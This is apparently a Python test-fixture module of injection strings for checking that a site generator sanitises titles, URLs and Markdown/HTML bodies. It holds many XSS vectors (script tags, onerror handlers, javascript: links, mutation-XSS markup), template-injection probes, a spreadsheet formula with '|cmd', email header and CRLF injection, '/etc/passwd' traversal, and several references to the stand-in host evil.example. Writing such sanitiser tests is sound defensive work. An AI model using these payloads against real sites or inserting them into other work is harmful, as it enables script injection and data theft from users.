"""Text and markup meant to break out of wherever it is put."""

# ruff: noqa: E501 - an attack is easier to judge on one line

from __future__ import annotations

LINES = (
    '"><script>window.__hit=1</script>',
    "</script><img src=x onerror=window.__hit=2>",
    "--><svg onload=window.__hit=3>--!><!--",
    ']]><iframe srcdoc="<script>parent.__hit=4</script>"></iframe><![CDATA[',
    "{{7*7}}{% raw %}{{ config }}{# #}${7*7}#{7*7}<%= 7*7 %>",
    "@@slot:main@@ @@slot:title@@ @@slot:nav:om@@",
    "@@content@@ @@/content@@ @@slot:head@@",
    "' onfocus='window.__hit=7' autofocus tabindex='0",
    '" style="background:url(https://evil.example/s)" onmouseover="window.__hit=8',
    "</title></textarea></style></noscript></template><script>__hit=9</script>",
    "javascript:window.__hit=10//",
    "&lt;script&gt; &amp;amp; &#x3c;b&#62; &nbsp; &quot; &notin; &",
    "\\n \\r\\n END:VEVENT \\, \\; ; , : \\\\ \\u003cscript\\u003e BEGIN:VALARM",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__hit=13&gt;'>",
    "[x](javascript:alert(1)) ![y](https://evil.example/p.png) **fed** <https://evil.example/> `kode`",
    "Ø" * 130,
    '=HYPERLINK("https://evil.example/";"x") +1 -1 @SUM(1+1)|cmd',
    "=?utf-8?q?Bcc:_ond=40evil.example?= Bcc: ond@evil.example",
    "\N{RIGHT-TO-LEFT MARK}שלום عربي 👩\N{ZERO WIDTH JOINER}👧 e\N{COMBINING ACUTE ACCENT}\N{ZERO WIDTH SPACE} \N{NO-BREAK SPACE} 𝕏",
    "<mj-raw><script>__hit=20</script></mj-raw></mj-text><mj-include path='/etc/passwd'/>",
    "`tick``` ~~~ ### | * _ > 1. - + # [^1]: \\",
    "%0d%0aSet-Cookie:x %00 %2e%2e/ ..\\..\\ ../../etc/passwd",
    'src="x.png" href="/y/" src=\'//evil.example/\'',
    "$& $1 \\1 \\g<0> $` $' %s %(x)s {0} {x}",
)
"""Each fits a title (140 characters with a short mark before it) and is one line."""

ADDRESSES = (
    "https://sted.example/?a=1&b=';alert(1)//&c=`x`&lt;=1",
    "https://sted.example/{{7*7}}/@@slot:main@@/?q=javascript:alert(1)",
    "https://sted.example/a'onclick='x/)](y)(z)\\e;url=https:evil.example",
    "https://xn--bcher-kva.example/ø/;,/%0d%0aX:1#'-alert(1)-'",
)
"""Addresses that the model allows."""

IMAGE = "billede.png"

_IMG = f'<img src="{IMAGE}" alt="a"'

BODIES = (
    "<script>window.__hit=1</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>tekst",
    f"{_IMG} onerror=window.__hit=2 onload='window.__hit=2' style=x:expression(1)>",
    "<svg onload=__hit=3><script>__hit=3</script><animate onbegin=__hit=3 attributeName=x></svg>",
    '<svg></p><style><a id="</style><img src=billede.png alt=a onerror=__hit=4>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__hit=5&gt;">',
    "<math><mtext><h2><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src=billede.png alt=a onerror='__hit=5'>\"></style></h2>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=billede.png alt=a onerror=__hit=6></style></mglyph></form>",
    '<noscript><p title="</noscript><img src=billede.png alt=a onerror=__hit=7>"></noscript>',
    "<template><script>__hit=8</script></template><textarea></textarea><script>__hit=8</script>",
    "<iframe src=javascript:parent.__hit=9 srcdoc='<script>parent.__hit=9</script>'></iframe>",
    "<object data=javascript:__hit=10></object><embed src=data:text/html,x><applet code=x>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><meta charset=utf-7>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/)}</style>",
    "<form action=https://evil.example/><input name=x onfocus=__hit=14 autofocus><button formaction=javascript:__hit=14>x",
    "<details open ontoggle=__hit=15><summary>x</summary>y</details><marquee onstart=__hit=15>",
    "<video poster=https://evil.example/p><source src=https://evil.example/v onerror=__hit=16></video><audio src=x onerror=__hit=16>",
    "[a](javascript:window.__hit=17) [b](JaVaScRiPt:__hit=17) [c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x)",
    "[a](<java\tscript:__hit=18>) [b](&#106;avascript:__hit=18) [c](javascript&colon;__hit=18) [d](\\javascript:__hit=18)",
    "<a href=' javascript:__hit=19'>a</a><a href='jav&#x0A;ascript:__hit=19'>b</a><a href='&#1;javascript:__hit=19'>c</a>",
    "<a href='x' xlink:href='javascript:1' target=_blank ping=https://evil.example/ style='x'>a</a>",
    "[ref]\n\n[ref]: javascript:__hit=21 'titel\" onclick=\"__hit=21'\n\n[to]\n\n[to]: https://sted.example/ 'x\" onclick=\"__hit=21'",
    "<div></div></div></div></main></body></html><script>__hit=22</script>",
    '<table lang=da><tr><td>x</table><table lang="da"><tr><td>y</td></tr></table>',
    "<table><tr><td><table><tr><td>z</table></table></td></table></div>",
    "</article></section></main><section><article class=hero id=indhold>efter",
    "<b><i><p>a</b>b</i>c</p><a href=/steder/>1<table><td><a href=/emner/>2",
    "<!-- <script>__hit=26</script> --> a --> <!--> <script>__hit=26</script> <![CDATA[ x ]]> <?php x ?>",
    "<plaintext><xmp></xmp><listing>&lt;script&gt;</listing>",
    "@@slot:main@@ @@slot:head@@ @@content@@ @@/content@@ {{7*7}} {% include 'x' %} <%= 1 %>",
    'src="x.png" href="/y/" src=\'//evil.example/\' og `href="/z/"`',
    "| a |\n|---|\n| <script>__hit=31</script> |\n| x\\|y |\n\nnote[^1]\n\n[^1]: <img src=billede.png alt=b onerror=__hit=31> [x](javascript:__hit=31)",
    "<p class='skip' id='indhold' data-day='2026-11-22' data-words='x' data-last='2000-01-01' hidden>skjult</p>",
    "<abbr title='\"><script>__hit=33</script>'>a</abbr> <time datetime='\" onclick=\"__hit=33'>b</time> <q cite=javascript:__hit=33>c</q>",
    "a\u200f b \u061c " + "langtord" * 400,
    '```"><script>__hit=35</script>\n</code></pre><script>__hit=35</script>\n```',
    '<http://x"onmouseover=__hit=36> <a@b.example> https://sted.example/"onclick=__hit=36',
)
"""Bodies in Markdown and raw HTML; what pictures survive are allowed, so that they are built."""
